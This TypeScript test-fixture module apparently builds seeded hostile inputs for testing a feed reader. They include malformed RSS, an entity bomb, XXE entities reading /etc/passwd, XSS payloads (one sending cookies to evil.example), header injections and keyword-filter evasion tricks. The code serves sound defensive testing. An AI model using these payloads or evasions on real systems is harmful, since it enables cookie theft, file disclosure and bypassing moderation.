/**
 * Deterministic hostile input for the fault suite: mutated feeds and hostile post texts, drawn from
 * a seeded generator so that a failure found once is found again with the same seed.
 */

/** mulberry32: small, fast, and the same sequence on every machine. */
export function prng(seed: number) {
  let a = seed >>> 0;
  const next = (): number => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
  const int = (lo: number, hi: number): number => lo + Math.floor(next() * (hi - lo + 1));
  const pick = <T>(list: readonly T[]): T => list[Math.floor(next() * list.length)];
  const bytes = (n: number): Buffer => {
    const b = Buffer.alloc(n);
    for (let i = 0; i < n; i++) b[i] = Math.floor(next() * 256);
    return b;
  };
  return { next, int, pick, bytes };
}

export type Rng = ReturnType<typeof prng>;

const WORDS = ['council', 'budget', 'street', 'bridge', 'meeting', 'river', 'school', 'library', 'transit', 'park', 'housing', 'snow', 'festival', 'market', 'hospital'];

function sentence(rng: Rng, n = rng.int(4, 12)): string {
  return Array.from({ length: n }, () => rng.pick(WORDS)).join(' ');
}

export interface FeedItemSpec {
  guid: string;
  title: string;
  html: string;
  link: string;
}

export function rssFeed(items: FeedItemSpec[], opts: { title?: string; head?: string; lang?: string } = {}): string {
  const esc = (s: string) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
  return (
    `${opts.head ?? '<?xml version="1.0" encoding="utf-8"?>'}\n<rss version="2.0"><channel><title>${esc(opts.title ?? 'Feed')}</title><link>https://example.org/</link>` +
    (opts.lang ? `<language>${opts.lang}</language>` : '') +
    items
      .map((i) => `<item><guid isPermaLink="false">${esc(i.guid)}</guid><title>${esc(i.title)}</title><link>${esc(i.link)}</link><description>${esc(i.html)}</description></item>`)
      .join('') +
    '</channel></rss>\n'
  );
}

function baseItems(rng: Rng, tag: string, n = rng.int(1, 6)): FeedItemSpec[] {
  return Array.from({ length: n }, (_, k) => ({
    guid: `${tag}-${k}`,
    title: sentence(rng),
    html: `<p>${sentence(rng, 20)}</p>`,
    link: `https://example.org/${tag}/${k}`,
  }));
}

/**
 * What a mutated feed must do to the source: `fail` feeds can never be read as a feed; `any` feeds
 * may still parse (a flipped byte in a title is harmless) but must not crash anything.
 */
export type Expect = 'fail' | 'any';

export interface HostileFeed {
  kind: string;
  expect: Expect;
  body: Buffer;
  contentType: string;
}

type Mutation = (rng: Rng, tag: string) => Omit<HostileFeed, 'kind'>;

const XML = 'application/rss+xml';
const utf8 = (s: string) => Buffer.from(s, 'utf8');

const deepOpen = (depth: number) => '<a>'.repeat(depth);

/** Every kind of damage, by name; each is built from a fresh valid feed. */
export const MUTATIONS: Record<string, Mutation> = {
  truncated: (rng, tag) => {
    const full = utf8(rssFeed(baseItems(rng, tag)));
    // Cut before the closing </channel>: no XML parser can accept the rest.
    return { expect: 'fail', body: full.subarray(0, rng.int(0, full.length - 20)), contentType: XML };
  },
  noise: (rng) => ({ expect: 'fail', body: rng.bytes(rng.int(1, 4000)), contentType: XML }),
  flipped: (rng, tag) => {
    const body = Buffer.from(utf8(rssFeed(baseItems(rng, tag))));
    for (let i = rng.int(1, 12); i > 0; i--) body[rng.int(0, body.length - 1)] = rng.int(0, 255);
    return { expect: 'any', body, contentType: XML };
  },
  spliced: (rng, tag) => {
    const full = utf8(rssFeed(baseItems(rng, tag)));
    const at = rng.int(0, full.length);
    return { expect: 'any', body: Buffer.concat([full.subarray(0, at), rng.bytes(rng.int(1, 300)), full.subarray(at)]), contentType: XML };
  },
  empty: () => ({ expect: 'fail', body: Buffer.alloc(0), contentType: XML }),
  'html-page': (rng) => ({ expect: 'fail', body: utf8(`<!doctype html><html><body><h1>${sentence(rng)}</h1><p>Moved</body>`), contentType: 'text/html' }),
  json: (rng) => ({ expect: 'fail', body: utf8(JSON.stringify({ items: [sentence(rng)] })), contentType: 'application/json' }),
  'lying-charset-header': (rng, tag) => ({
    expect: 'any',
    body: utf8(rssFeed(baseItems(rng, tag).map((i) => ({ ...i, title: `${i.title} é à ç 東京` })))),
    contentType: `${XML}; charset=${rng.pick(['utf-16', 'shift_jis', 'iso-8859-7', 'x-bogus-charset', 'utf-32'])}`,
  }),
  'lying-xml-declaration': (rng, tag) => ({
    expect: 'any',
    body: utf8(rssFeed(baseItems(rng, tag).map((i) => ({ ...i, title: `${i.title} café` })), { head: `<?xml version="1.0" encoding="${rng.pick(['UTF-16', 'EBCDIC', 'nonsense', 'windows-1251'])}"?>` })),
    contentType: 'text/xml',
  }),
  'latin1-as-utf8': (rng, tag) => ({
    expect: 'any',
    body: Buffer.from(rssFeed(baseItems(rng, tag).map((i) => ({ ...i, title: `${i.title} déménagement été` }))), 'latin1'),
    contentType: `${XML}; charset=utf-8`,
  }),
  'utf16-bom-utf8-body': (rng, tag) => ({ expect: 'any', body: Buffer.concat([Buffer.from([0xff, 0xfe]), utf8(rssFeed(baseItems(rng, tag)))]), contentType: XML }),
  'deep-xml': (rng) => {
    const depth = rng.int(5_000, 20_000);
    return { expect: 'any', body: utf8(`<?xml version="1.0"?><rss version="2.0"><channel><title>d</title><item><guid>deep</guid><title>${deepOpen(depth)}x${'</a>'.repeat(depth)}</title></item></channel></rss>`), contentType: XML };
  },
  'deep-html': (rng, tag) => {
    const depth = rng.int(2_000, 10_000);
    const html = `${'<div><span>'.repeat(depth)}deep${'</span></div>'.repeat(depth)}`;
    return { expect: 'any', body: utf8(rssFeed([{ guid: `${tag}-deep`, title: 'deep', html, link: `https://example.org/${tag}` }])), contentType: XML };
  },
  'unclosed-deep': (rng) => ({ expect: 'fail', body: utf8(`<?xml version="1.0"?><rss version="2.0"><channel>${deepOpen(rng.int(1_000, 30_000))}`), contentType: XML }),
  'entity-bomb': (rng) => {
    const levels = rng.int(6, 10);
    const decls = ['<!ENTITY l0 "lol">'];
    for (let i = 1; i < levels; i++) decls.push(`<!ENTITY l${i} "${`&l${i - 1};`.repeat(10)}">`);
    return {
      expect: 'fail',
      body: utf8(`<?xml version="1.0"?><!DOCTYPE rss [${decls.join('')}]><rss version="2.0"><channel><title>b</title><item><guid>bomb</guid><title>&l${levels - 1};</title></item></channel></rss>`),
      contentType: XML,
    };
  },
  'external-entity': (rng) => ({
    expect: 'fail',
    body: utf8(
      `<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY x SYSTEM "${rng.pick(['file:///etc/passwd', 'http://127.0.0.1:1/secret', '/proc/self/environ'])}">]><rss version="2.0"><channel><title>x</title><item><guid>xxe</guid><title>&x;</title></item></channel></rss>`,
    ),
    contentType: XML,
  }),
  'quadratic-attribute': (rng) => ({
    expect: 'any',
    body: utf8(`<?xml version="1.0"?><rss version="2.0" x="${'A'.repeat(rng.int(100_000, 400_000))}"><channel><title>q</title><item><guid>q</guid><title>q</title></item></channel></rss>`),
    contentType: XML,
  }),
  'many-items': (rng, tag) => ({ expect: 'any', body: utf8(rssFeed(baseItems(rng, tag, rng.int(300, 800)))), contentType: XML }),
  'control-chars': (rng, tag) => ({
    expect: 'any',
    body: utf8(rssFeed(baseItems(rng, tag).map((i) => ({ ...i, title: `${i.title}\u0000\u0007\u001b[31m\uFFFE\uD800` })))),
    contentType: XML,
  }),
  'unterminated-cdata': (rng) => ({ expect: 'fail', body: utf8(`<?xml version="1.0"?><rss version="2.0"><channel><title>c</title><item><description><![CDATA[${sentence(rng)}`), contentType: XML }),
  'mismatched-tags': (rng) => ({ expect: 'any', body: utf8(`<?xml version="1.0"?><rss version="2.0"><channel><title>m</item></channel><item></rss>${sentence(rng)}`), contentType: XML }),
  'no-ids': (rng) => ({
    expect: 'any',
    body: utf8(`<?xml version="1.0"?><rss version="2.0"><channel><title>n</title>${'<item><title></title></item>'.repeat(rng.int(1, 20))}<item/></channel></rss>`),
    contentType: XML,
  }),
  'atom-garbage': (rng) => ({
    expect: 'any',
    body: utf8(`<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom"><entry><id>${'\u202e'.repeat(3)}${sentence(rng)}</id><title type="xhtml"><div><script>x</script></div></title><link href="javascript:alert(1)"/></entry><entry/></feed>`),
    contentType: 'application/atom+xml',
  }),
  'huge-field-in-cap': (rng, tag) => ({
    expect: 'any',
    body: utf8(rssFeed([{ guid: `${tag}-big`, title: 'W'.repeat(rng.int(50_000, 200_000)), html: `<p>${'word '.repeat(rng.int(100_000, 200_000))}</p>`, link: `https://example.org/${tag}` }])),
    contentType: XML,
  }),
};

export const MUTATION_KINDS = Object.keys(MUTATIONS);

/** Kinds that cost the parser real time (a second or so each): a few of each is proof enough. */
export const HEAVY_KINDS = ['deep-xml', 'deep-html', 'quadratic-attribute', 'many-items', 'huge-field-in-cap'];

/**
 * `count` mutated feeds from the seeded generator: `heavyEach` of each heavy kind spread evenly,
 * the cheap kinds in turn for the rest, so every kind appears.
 */
export function hostileFeeds(seed: number, count: number, heavyEach = 3): HostileFeed[] {
  const rng = prng(seed);
  const cheap = MUTATION_KINDS.filter((k) => !HEAVY_KINDS.includes(k));
  const heavy = HEAVY_KINDS.flatMap((k) => Array<string>(heavyEach).fill(k));
  const spacing = Math.max(1, Math.floor(count / (heavy.length + 1)));
  let c = 0;
  return Array.from({ length: count }, (_, i) => {
    const kind = i % spacing === spacing - 1 && heavy.length ? heavy.shift()! : cheap[c++ % cheap.length];
    return { kind, ...MUTATIONS[kind](rng, `h${i}`) };
  });
}

// ---- hostile texts ----

/** Markup and payloads that must never come out of a renderer as live markup. */
export const PAYLOADS = [
  '<script>document.location="https://evil.example/?c="+document.cookie</script>',
  '<img src=x onerror="alert(1)">',
  '<svg onload=alert(1)><circle r=1></svg>',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JaVaScRiPt:alert(1)" onclick="steal()">here</a>',
  '<iframe src="https://evil.example/"></iframe>',
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
  '<style>body{display:none}</style>',
  '<body onload=alert(1)>',
  '&lt;script&gt;alert("decoded")&lt;/script&gt;',
  '&#60;img src=x onerror=alert(2)&#62;',
  '"><script>alert(3)</script><p class="',
  "'></title></head><script>alert(4)</script>",
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<form action="https://evil.example/"><input name=p></form>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(5)>',
  '<!--<script>alert(6)</script>-->',
  '<![CDATA[<script>alert(7)</script>]]>',
  '<base href="https://evil.example/">',
  '<details open ontoggle=alert(8)>',
];

export const HOSTILE_URLS = [
  'javascript:alert(1)',
  'JAVASCRIPT:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  'https://example.org/"><script>alert(1)</script>',
  "https://example.org/x' onmouseover='alert(1)",
  'https://example.org/%0d%0aBcc:%20victim@example.com',
];

/** Newlines meant to add a header (Bcc, a second Subject) wherever text reaches one. */
export const HEADER_INJECTIONS = ['\r\nBcc: victim@example.com', '\nSubject: pwned', '\r\n\r\n<script>alert(1)</script>', '\u2028Bcc: victim@example.com', '\u0085Cc: victim@example.com'];

export const BIDI = ['\u202e', '\u202d', '\u202a', '\u202b', '\u2066', '\u2067', '\u2068'];
export const ZERO_WIDTH = ['\u200b', '\u200c', '\u200d', '\u2060', '\ufeff'];

const CYRILLIC: Record<string, string> = { a: 'а', e: 'е', o: 'о', p: 'р', c: 'с', x: 'х', i: 'і', s: 'ѕ' };
const DIGITS: Record<string, string> = { o: '0', i: '1', e: '3', a: '4', s: '5', t: '7' };

/** Ways of writing a word to slip past a keyword filter while staying readable to people. */
export const EVASIONS: Record<string, (word: string, rng: Rng) => string> = {
  'zero-width': (w, rng) => [...w].join(rng.pick(ZERO_WIDTH)),
  'letter-spacing': (w, rng) => [...w].join(rng.pick([' ', '.', '-', '_'])),
  homoglyph: (w) => {
    // Swap only some letters: a word mixing scripts is the trick, a fully Cyrillic one is just Russian.
    let swapped = 0;
    return [...w].map((c) => (CYRILLIC[c] && swapped++ % 2 === 0 ? CYRILLIC[c] : c)).join('');
  },
  'digit-swap': (w) => {
    let swapped = 0;
    return [...w].map((c, i) => (i > 0 && DIGITS[c] && swapped++ < 2 ? DIGITS[c] : c)).join('');
  },
  'mixed-case-accents': (w) => [...w].map((c, i) => (i % 2 ? c.toUpperCase() : c)).join('').replace(/e/, 'é'),
  'soft-hyphen': (w) => `${w.slice(0, 2)}\u00ad${w.slice(2)}`,
};

export interface HostileText {
  kind: string;
  title: string;
  html: string;
  url: string;
  author: string;
  /** The rule term written evasively in the text, when the text is built around one. */
  term?: string;
  evasion?: string;
}

/**
 * `count` hostile posts. Each mixes markup payloads, a hostile link, header-injection newlines,
 * bidi and zero-width characters; every other one is built around a rule term written evasively,
 * and one in twenty is a 1 MB post.
 */
export function hostileTexts(seed: number, count: number, terms: readonly string[]): HostileText[] {
  const rng = prng(seed);
  const evasionKinds = Object.keys(EVASIONS);
  return Array.from({ length: count }, (_, i) => {
    const payload = () => rng.pick(PAYLOADS);
    const title = `${sentence(rng, 3)} ${payload()}${rng.pick(HEADER_INJECTIONS)} ${rng.pick(BIDI)}${sentence(rng, 2)}${rng.pick(ZERO_WIDTH)}`;
    let html = `<p>${sentence(rng)} ${payload()} ${rng.pick(BIDI)}gnp.exe${'\u202c'} ${payload()}</p>`;
    let term: string | undefined;
    let evasion: string | undefined;
    let kind = 'markup';
    if (i % 2 === 0) {
      term = terms[(i / 2) % terms.length];
      evasion = evasionKinds[(i / 2) % evasionKinds.length];
      kind = `evasion:${evasion}`;
      // The term comes before the payload: a payload that opens a <style> or an attribute would
      // rightly hide whatever follows it from the reader, and from the matchers too.
      html = `<p>${sentence(rng)} ${EVASIONS[evasion](term, rng)} ${sentence(rng, 4)}</p>${payload()}`;
    }
    if (i % 20 === 5) {
      kind = 'megabyte';
      html = `<div>${`${sentence(rng, 8)} ${payload()} `.repeat(12_000).slice(0, 1_048_576)}</div>`;
    }
    return {
      kind,
      title,
      html,
      // Each post its own address: two posts with one canonical URL are one story to the deduper.
      url: i % 3 === 0 ? `${rng.pick(HOSTILE_URLS)}/${i}` : `https://news.example.org/${i}?x=<b>`,
      author: `${sentence(rng, 2)}${rng.pick(HEADER_INJECTIONS)}${payload()}`,
      term,
      evasion,
    };
  });
}
